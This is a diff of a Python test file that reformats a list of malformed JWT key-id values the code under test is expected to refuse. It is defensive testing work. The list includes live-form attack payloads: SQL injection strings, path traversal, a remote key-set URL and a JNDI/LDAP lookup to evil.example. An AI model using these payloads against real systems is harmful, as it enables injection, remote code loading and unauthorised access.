@@ -85,7 +85,8 @@ def test_a_key_that_is_not_ours_is_refused(token: str) -> None:
 @pytest.mark.parametrize(
     "kid",
     [
-        None, "", "x", 7, True, {}, [], [key_id(OLD)], {"kid": key_id(OLD)}, in_capitals(key_id(OLD)),
+        None, "", "x", 7, True, {}, [],
+        [key_id(OLD)], {"kid": key_id(OLD)}, in_capitals(key_id(OLD)),
         f"{key_id(OLD)} ", f"{key_id(OLD)}\0", key_id(NEXT), OLD, "0", "default",
         "/dev/null", "../../../dev/null", "file:///dev/null", "https://evil.example/jwks.json",
         "' OR '1'='1", "x' UNION SELECT 'key' --", "${jndi:ldap://evil.example}", "x" * 5000,
